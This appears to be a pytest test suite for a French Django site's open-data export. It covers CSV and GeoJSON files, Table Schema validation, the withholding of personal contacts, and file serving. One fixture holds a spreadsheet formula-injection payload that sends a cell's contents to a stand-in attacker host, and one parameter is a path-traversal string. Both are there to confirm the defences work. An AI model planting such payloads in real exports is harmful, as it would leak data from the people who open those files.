"""Open data: `export_open_data` writes the files, /donnees-ouvertes/ lists and serves them, and
the initiatives CSV (and the two others) follow the Table Schemas published next to them,
checked with frictionless, the reference validator of the specs (offline)."""

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import formats, timezone
from frictionless import Resource, Schema

from api.exports import CSV_COLUMNS
from assessment.models import Framework, FrameworkStatus
from opendata.files import DATASETS, FILES, MANIFEST, published
from opendata.tables import TABLES
from opendata.tables.initiatives import INITIATIVES, WITHHELD_COLUMNS
from registry.models import Commune, InitiativeType, Label, ProductCategory
from registry.models import Status as InitiativeStatus
from tests.factories import InitiativeFactory, StoredAssessmentFactory, UserFactory

pytestmark = pytest.mark.django_db

BASE_URL = "https://circuits.example.fr"
ACCOUNT_EMAIL = "jeanne.private@example.org"
PUBLIC_EMAIL = "contact-lac@example.org"
PUBLIC_PHONE = "05 61 23 45 67"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'


@pytest.fixture
def folder(settings, tmp_path):
    settings.OPEN_DATA_DIR = tmp_path / "open-data"
    return settings.OPEN_DATA_DIR


@pytest.fixture
def registry(reference_data):
    """Framework v1 and the measures (reference data), and validated initiatives in Ariège:
    one with a public contact and an owner, one named as a formula; and a draft."""
    owner = UserFactory(username=ACCOUNT_EMAIL, email=ACCOUNT_EMAIL, first_name="Jeanne")
    foix = Commune.objects.get(insee_code="09122")
    lac = InitiativeFactory(
        name="Épicerie du Lac",
        type=InitiativeType.objects.get(code="MAG_PROD"),
        commune=foix,
        postal_code="09000",
        latitude=42.9653,
        longitude=1.6069,
        email=PUBLIC_EMAIL,
        phone=PUBLIC_PHONE,
        website="https://www.epicerie-du-lac.fr/",
        opening_hours="Mardi-samedi\n9h-19h",
        owners=[owner],
        products=list(ProductCategory.objects.filter(code__in=["CREMERIE", "FRUITS_LEGUMES"])),
        labels=[Label.objects.get(code="AB")],
    )
    framework = Framework.objects.get(version=1)
    StoredAssessmentFactory(initiative=lac, framework=framework, score=62.5, max_score=100)
    InitiativeFactory(
        name=FORMULA,
        type=lac.type,
        commune=foix,
        postal_code="09000",
        latitude=None,
        longitude=None,
    )
    InitiativeFactory(name="Brouillon secret", status=InitiativeStatus.DRAFT, commune=foix)
    return lac


@pytest.fixture
def exported(folder, registry):
    call_command("export_open_data", "--base-url", BASE_URL, stdout=io.StringIO())
    return folder


def read_csv(path, delimiter=",") -> list[dict]:
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=delimiter))


def schema_of(client, table: str) -> dict:
    response = client.get(reverse("catalogue:open-data-schema", args=[table]))
    assert response.status_code == 200
    return response.json()


# --- what is published --------------------------------------------------------------------------


def test_every_column_of_the_api_csv_is_published_or_withheld():
    """A column added to the API's CSV must be described here (or withheld) to be published."""
    assert [name for name in CSV_COLUMNS if name not in WITHHELD_COLUMNS] == INITIATIVES.names
    assert set(WITHHELD_COLUMNS) == {"email", "telephone"}


def test_the_command_writes_every_file_and_the_manifest(exported, registry):
    manifest = json.loads((exported / MANIFEST).read_text())

    assert set(manifest["files"]) == set(FILES)
    assert manifest["files"]["initiatives.csv"]["rows"] == 2  # not the draft
    assert manifest["files"]["initiatives.geojson"]["rows"] == 2
    assert manifest["framework_version"] == 1
    assert all(
        (exported / name).stat().st_size == info["bytes"]
        for name, info in manifest["files"].items()
    )
    rows = {row["id"]: row for row in read_csv(exported / "initiatives.csv")}
    lac = rows[registry.slug]
    assert (lac["departement"], lac["code_postal"], lac["code_insee"]) == ("09", "09000", "09122")
    assert (lac["score"], lac["eligible"], lac["url"]) == (
        "62.5",
        "true",
        f"{BASE_URL}/initiatives/{registry.slug}/",
    )
    assert lac["horaires"] == "Mardi-samedi\n9h-19h"
    formula = next(row for row in rows.values() if row["nom"].endswith(FORMULA))
    assert formula["nom"] == "'" + FORMULA


def test_no_file_holds_a_personal_contact(exported):
    for name in FILES:
        text = (exported / name).read_text(encoding="utf-8-sig")
        for secret in (PUBLIC_EMAIL, PUBLIC_PHONE, ACCOUNT_EMAIL, "jeanne.private", "Brouillon"):
            assert secret not in text, (name, secret)
    for name in ("initiatives.csv", "initiatives-excel.csv"):
        header = (exported / name).read_text(encoding="utf-8-sig").splitlines()[0]
        assert "email" not in header and "telephone" not in header
    geojson = json.loads((exported / "initiatives.geojson").read_text())
    for feature in geojson["features"]:
        assert not {"email", "phone", "owners"} & set(feature["properties"])


def test_the_excel_variants_hold_the_same_rows_with_semicolons_and_decimal_commas(
    exported, registry
):
    comma = read_csv(exported / "initiatives.csv")
    semicolon = read_csv(exported / "initiatives-excel.csv", delimiter=";")

    assert [row["id"] for row in semicolon] == [row["id"] for row in comma]
    lac = next(row for row in semicolon if row["id"] == registry.slug)
    assert (lac["score"], lac["latitude"], lac["departement"]) == ("62,5", "42,9653", "09")
    assert len(read_csv(exported / "mesures-excel.csv", delimiter=";")) == len(
        read_csv(exported / "mesures.csv")
    )


def test_the_framework_and_the_measures_are_the_api_s(exported, client):
    api_framework = client.get(reverse("api:framework-current")).json()
    api_measures = client.get(reverse("api:measure-list")).json()

    framework = json.loads((exported / "referentiel.json").read_text())
    assert framework == api_framework
    measures = json.loads((exported / "mesures.json").read_text())
    assert [m["code"] for m in measures] == [m["code"] for m in api_measures]
    assert measures[0]["url"].startswith(BASE_URL)
    criteria = read_csv(exported / "referentiel-criteres.csv")
    assert [row["code"] for row in criteria] == [c["code"] for c in api_framework["criteria"]]
    assert {row["score_minimum"] for row in criteria} == {str(api_framework["min_score"])}
    e4 = next(row for row in criteria if row["code"] == "E4")
    assert (e4["nature"], e4["seuil"], e4["unite"]) == ("eliminatory", "50", "%")
    assert json.loads(e4["bareme"])["threshold"] == 50


def test_without_a_framework_in_force_its_files_go(exported, client):
    Framework.objects.filter(status=FrameworkStatus.PUBLISHED).update(
        status=FrameworkStatus.RETIRED
    )

    call_command("export_open_data", "--base-url", BASE_URL, stdout=io.StringIO())

    assert "referentiel.json" not in published(exported).files
    assert not (exported / "referentiel-criteres.csv").exists()
    page = client.get(reverse("catalogue:open-data")).content.decode()
    assert reverse("api:framework-current") in page  # the live API instead
    assert reverse("catalogue:open-data-file", args=["initiatives.csv"]) in page


def test_the_command_needs_the_site_s_address(folder, settings):
    settings.SITE_URL = ""

    with pytest.raises(CommandError, match="--base-url"):
        call_command("export_open_data", stdout=io.StringIO())


# --- the Table Schemas ----------------------------------------------------------------------------


def test_the_initiatives_schema_is_published_at_a_stable_address(client):
    response = client.get("/donnees-ouvertes/schema-initiatives.json")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Access-Control-Allow-Origin"] == "*"
    schema = response.json()
    assert schema["$schema"] == "https://frictionlessdata.io/schemas/table-schema.json"
    assert schema["name"] and schema["title"] and schema["description"] and schema["version"]
    assert schema["licenses"][0]["name"] == "etalab-2.0"
    assert schema["contributors"][0]["role"] == "author"
    assert schema["missingValues"] == [""]
    assert schema["primaryKey"] == "id"
    assert schema["path"] == "http://testserver/donnees-ouvertes/schema-initiatives.json"
    assert schema["resources"][0]["path"] == "http://testserver/donnees-ouvertes/initiatives.csv"
    assert [field["name"] for field in schema["fields"]] == INITIATIVES.names
    for field in schema["fields"]:
        assert field["title"] and field["description"] and field["example"], field["name"]
    codes = {f["name"]: f for f in schema["fields"] if f["name"] in ("departement", "code_postal")}
    assert all(f["type"] == "string" and f["constraints"]["pattern"] for f in codes.values())
    # In French, the language of schema.data.gouv.fr, whatever the visitor's.
    english = client.get("/donnees-ouvertes/schema-initiatives.json", HTTP_ACCEPT_LANGUAGE="en")
    assert english.json() == schema


@pytest.mark.parametrize("table", list(TABLES))
def test_each_schema_is_a_valid_table_schema(client, table):
    report = Schema.validate_descriptor(schema_of(client, table))

    assert report.valid, report.flatten(["type", "note"])


def test_an_unknown_schema_is_not_found(client):
    response = client.get(reverse("catalogue:open-data-schema", args=["inconnu"]))

    assert response.status_code == 404


@pytest.mark.parametrize("table", list(TABLES))
def test_each_csv_file_follows_its_schema(exported, client, table):
    schema = Schema.from_descriptor(schema_of(client, table))

    report = Resource(path=f"{table}.csv", basepath=str(exported), schema=schema).validate()

    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert report.tasks[0].stats["rows"] == published(exported).files[f"{table}.csv"]["rows"]


def test_the_schema_catches_a_lost_leading_zero(exported, client, tmp_path):
    """What a spreadsheet does to a code column read as a number: the validator says so."""
    text = (exported / "initiatives.csv").read_text(encoding="utf-8-sig")
    broken = tmp_path / "broken.csv"
    broken.write_text(text.replace(",09000,09122,Foix,09,", ",9000,9122,Foix,9,"), encoding="utf-8")
    schema = Schema.from_descriptor(schema_of(client, "initiatives"))

    report = Resource(path=broken.name, basepath=str(tmp_path), schema=schema).validate()

    errors = report.flatten(["fieldName", "type"])
    assert ["code_postal", "constraint-error"] in errors
    assert ["departement", "constraint-error"] in errors


# --- the page and the files -----------------------------------------------------------------------


def test_before_any_export_the_page_links_to_the_live_api(folder, client):
    response = client.get(reverse("catalogue:open-data"))

    assert response.status_code == 200
    html = response.content.decode()
    api = reverse("api:initiative-list")
    for query in ("?format=csv", "?format=csv&amp;sep=semicolon", "?format=geojson"):
        assert f'href="{api}{query}"' in html
    assert reverse("api:framework-current") in html and reverse("api:measure-list") in html
    assert reverse("catalogue:open-data-file", args=["initiatives.csv"]) not in html
    assert reverse("catalogue:open-data-schema", args=["initiatives"]) in html
    assert "etalab.gouv.fr/licence-ouverte-open-licence" in html


def test_the_page_lists_the_files_with_when_they_were_made(exported, client):
    html = client.get(reverse("catalogue:open-data")).content.decode()

    for name in FILES:
        assert f'href="{reverse("catalogue:open-data-file", args=[name])}"' in html
    when = timezone.localtime(published(exported).generated_at)
    assert formats.date_format(when, "DATETIME_FORMAT") in html
    assert f'href="{reverse("api:initiative-list")}?format=csv"' not in html


def test_the_page_holds_the_data_dictionary(folder, client):
    html = client.get(reverse("catalogue:open-data")).content.decode()

    for dataset in DATASETS:
        for column in dataset.table.columns:
            assert f"<code>{column.name}</code>" in html


def test_every_page_links_the_open_data_page(client):
    html = client.get(reverse("catalogue:home")).content.decode()

    assert f'href="{reverse("catalogue:open-data")}"' in html


def test_the_files_are_served_as_written(exported, client):
    response = client.get(reverse("catalogue:open-data-file", args=["initiatives.csv"]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Access-Control-Allow-Origin"] == "*"
    assert "attachment" in response["Content-Disposition"]
    assert b"".join(response.streaming_content) == (exported / "initiatives.csv").read_bytes()
    again = client.get(
        reverse("catalogue:open-data-file", args=["initiatives.csv"]),
        HTTP_IF_MODIFIED_SINCE=response["Last-Modified"],
    )
    assert again.status_code == 304
    geojson = client.get(reverse("catalogue:open-data-file", args=["initiatives.geojson"]))
    assert geojson["Content-Type"] == "application/geo+json"
    geojson.close()


@pytest.mark.parametrize(
    "name", [MANIFEST, "inconnu.csv", "..%2Fmanifest.json", "initiatives.xlsx"]
)
def test_only_the_listed_files_are_served(exported, client, name):
    (exported / "inconnu.csv").write_text("x")

    assert client.get(f"/donnees-ouvertes/{name}").status_code == 404


def test_a_file_the_manifest_does_not_list_is_not_served(exported, client):
    manifest = json.loads((exported / MANIFEST).read_text())
    del manifest["files"]["mesures.csv"]
    (exported / MANIFEST).write_text(json.dumps(manifest))

    assert client.get("/donnees-ouvertes/mesures.csv").status_code == 404
    assert client.get("/donnees-ouvertes/mesures.json").status_code == 200
